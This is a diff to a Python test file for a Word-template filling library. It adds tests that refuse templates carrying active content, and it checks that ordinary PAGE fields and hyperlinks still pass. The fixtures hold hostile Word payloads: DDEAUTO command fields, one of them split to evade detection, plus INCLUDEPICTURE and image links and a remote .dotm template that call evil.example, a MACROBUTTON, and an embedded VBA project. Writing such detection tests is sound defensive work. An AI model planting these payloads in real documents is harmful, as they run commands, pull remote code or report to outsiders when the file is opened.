@@ -11,6 +11,7 @@ from hypothesis import strategies as st
 
 from jiefen.base.text import render
 from jiefen.gate.carriers.reader import texts
+from jiefen.papers.acting import word_acts
 from jiefen.papers.anonymous import EPOCH, anonymous
 from jiefen.papers.fill import Limits, UnusableTemplate, filled
 from jiefen.papers.filling import one_filled
@@ -163,3 +164,65 @@ def _fills(source: str) -> bool:
     imports = (node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.ImportFrom | ast.Import))
     names = (f"{getattr(node, 'module', '')}.{alias.name}" for node in imports for alias in node.names)
     return any("docxtpl" in name or name.startswith("jiefen.papers.filling") for name in names)
+
+
+def changed(raw: bytes, changes: dict[str, tuple[bytes, bytes]], more: dict[str, bytes] | None = None) -> bytes:
+    """A Word file with something put in place of another in some of its parts, and with more parts."""
+    out = BytesIO()
+    with ZipFile(BytesIO(raw)) as source, ZipFile(out, "w") as target:
+        for name in source.namelist():
+            content = source.read(name)
+            if name in changes:
+                assert changes[name][0] in content
+                content = content.replace(*changes[name])
+            target.writestr(name, content)
+        for name, content in (more or {}).items():
+            target.writestr(name, content)
+    return out.getvalue()
+
+
+def field(*pieces: str) -> tuple[bytes, bytes]:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return b"</w:p>", f"{runs}</w:p>".encode()
+
+
+RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def related(kind: str, target: str) -> tuple[bytes, bytes]:
+    relation = f'<Relationship Id="rIdx" Type="{RELATED}{kind}" Target="{target}" TargetMode="External"/>'
+    return b"</Relationships>", f"{relation}</Relationships>".encode()
+
+
+RELATIONS = "word/_rels/document.xml.rels"
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"word/document.xml": field('DDEAUTO c:\\\\x "/k"')},
+        {"word/document.xml": field("DD", "EAUTO x")},
+        {"word/document.xml": field("INCLUDEPICTURE &quot;https://evil.example/x.png&quot;")},
+        {"word/document.xml": field("HYPERLINK &quot;x&quot; MACROBUTTON x")},
+        {"word/document.xml": (b"</w:p>", b'<w:fldSimple w:instr="LINK Excel.Sheet.8 x"/></w:p>')},
+        {RELATIONS: related("attachedTemplate", "https://evil.example/x.dotm")},
+        {RELATIONS: related("image", "https://evil.example/x.png")},
+        {RELATIONS: related("hyperlink", "file://evil.example/x")},
+    ],
+)
+def test_a_template_that_acts_is_refused(changes: dict[str, tuple[bytes, bytes]]) -> None:
+    """The blank form would run it, or tell somebody else that it was opened, on the reader's machine."""
+    with pytest.raises(UnusableTemplate) as refused:
+        filled(changed(BRACKETED, changes), {"value": "x", "sample": False})
+    assert "INCLUDEPICTURE" in render(refused.value.say)
+
+
+def test_a_template_may_point_at_pages_and_number_them() -> None:
+    target = "https://www.gov.cn/link/dde"
+    fields = field("PAGE", f" HYPERLINK &quot;{target}&quot;")
+    assert filled(
+        changed(BRACKETED, {"word/document.xml": fields, RELATIONS: related("hyperlink", target)}),
+        {"value": "x", "sample": False},
+    )
+    assert word_acts(changed(BRACKETED, {}, {"word/vbaProject.bin": b"x"}))
+    assert not word_acts(BRACKETED)
